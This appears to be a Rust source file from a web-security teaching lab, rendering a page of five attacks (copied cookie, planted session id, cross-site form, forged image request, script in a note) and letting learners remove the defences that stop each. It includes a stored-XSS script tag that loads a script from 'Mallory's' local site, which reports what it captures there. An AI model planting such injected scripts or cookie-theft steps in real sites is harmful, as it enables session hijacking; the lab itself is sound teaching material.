//! The page of the attacks: what to do for each, and the lines that can be taken out.

use axum::{
    Extension, Router,
    response::{IntoResponse, Redirect},
    routing::{get, post},
};
use maud::{Markup, html};

use super::{Lab, Line, beside, lines::TakenOut};
use crate::{Library, form::Form, page};

/// The note that brings Mallory's script into a page of the library.
const SCRIPT: &str = r#"<script src="http://127.0.0.1:PORT/script.js"></script>"#;

/// An attack that the learner carries out.
struct Attack {
    title: &'static str,
    /// What to do, in this order, with MALLORY and ELSEWHERE for the two names of her site.
    steps: &'static [&'static str],
    /// The lines that stop it, or keep it small.
    lines: &'static [Line],
}

const ATTACKS: [Attack; 5] = [
    Attack {
        title: "A copied cookie",
        steps: &[
            "Sign in here as ann.",
            "Open MALLORY/kittens to see what your browser sends to another port.",
            "Sign out here.",
            "Open MALLORY/ask and Mallory asks for the loans, with her copy of the cookie.",
        ],
        lines: &[Line::DeleteRow],
    },
    Attack {
        title: "A planted id",
        steps: &[
            "Sign out, and open MALLORY/plant to get the id of a session of Mallory's.",
            "Sign in here as ann.",
            "Open MALLORY/ask and Mallory asks for the loans, with the id that she has planted.",
        ],
        lines: &[Line::NewId],
    },
    Attack {
        title: "A form on another site",
        steps: &[
            "Sign in here as ann.",
            "Open MALLORY/form and press its button. Then look at the wall.",
            "Do the same at ELSEWHERE/form (for your browser, this is another site).",
        ],
        lines: &[Line::Origin],
    },
    Attack {
        title: "A picture that is no picture",
        steps: &[
            "Sign in here as ann.",
            "Open MALLORY/picture (its picture has the address of the library's sign-out).",
            "Open your loans here.",
            "Do the same at ELSEWHERE/picture and then follow the link there.",
        ],
        lines: &[Line::PostOnly],
    },
    Attack {
        title: "A script in a note",
        steps: &[
            "Sign out, and write this on the wall: SCRIPT",
            "Sign in here as ann, and open the wall.",
            "Open MALLORY/ to see what the script has told her.",
            "Put one of the three lines back at a time, sign in again for a new cookie, and open the wall.",
        ],
        lines: &[Line::Escape, Line::Policy, Line::HttpOnly],
    },
];

/// What the form calls the wish for a wall without notes.
const EMPTY_WALL: &str = "empty-wall";

/// The page of the attacks, and the form that takes lines out.
pub fn pages() -> Router<Library> {
    Router::new()
        .route("/attacks", get(attacks))
        .route("/lines", post(take_out))
}

async fn attacks(lab: Lab) -> Markup {
    let content = html! {
        p { "Tick the lines that the program should run without. Every other one is put back." }
        @if !beside::is_there() {
            p { "Mallory's site is not running. " code { "cargo run --bin step11" }
                " starts it, one port above the library." }
        }
        form.attacks method="post" action="/lines" {
            @for attack in &ATTACKS { (section(attack, &lab)) }
            p { label { input type="checkbox" name=(EMPTY_WALL); " Take down all notes as well" } }
            button { "Run without the lines that are ticked" }
        }
        p { a href="/sign-in" { "Sign in" } " " a href="/loans" { "My loans" } " " a href="/wall" { "The wall" } }
    };
    page::layout("Five attacks", content)
}

fn section(attack: &Attack, lab: &Lab) -> Markup {
    html! {
        h2 { (attack.title) }
        ol { @for step in attack.steps { li { (with_addresses(step)) } } }
        @for line in attack.lines {
            p {
                label {
                    input type="checkbox" name=(line.name()) checked[!lab.has(*line)];
                    " " code { (line.code()) }
                    @if !lab.has(*line) { " is out" }
                }
            }
        }
    }
}

/// A sentence with links to Mallory's site, as another port and as another site, and with the note that has her script.
fn with_addresses(step: &str) -> Markup {
    let port = beside::port();
    let link = |host: &str, path: &str| {
        let address = format!("http://{host}:{port}{path}");
        html! { a href=(address) target="mallory" rel="noopener" { (address) } }
    };
    html! {
        @for word in step.split_inclusive(' ') {
            @if let Some(path) = word.strip_prefix("MALLORY") { (link("127.0.0.1", path.trim_end())) " " }
            @else if let Some(path) = word.strip_prefix("ELSEWHERE") { (link("localhost", path.trim_end())) " " }
            @else if word == "SCRIPT" { code { (SCRIPT.replace("PORT", &port.to_string())) } }
            @else { (word) }
        }
    }
}

async fn take_out(lab: Lab, Form(ticked): Form<Vec<(String, String)>>) -> impl IntoResponse {
    // A browser sends "on" for a box that is ticked. The security check types something of its own into every field of
    // every form, and takes out no line by that.
    let is_ticked = |wanted: &str| {
        let mut sent = ticked.iter();
        sent.any(|(name, value)| name == wanted && value == "on")
    };
    if is_ticked(EMPTY_WALL) {
        lab.wall.clear();
    }
    let out = Line::ALL.into_iter().filter(|line| is_ticked(line.name()));
    let out = out.collect();
    (Extension(TakenOut(out)), Redirect::to("/attacks"))
}
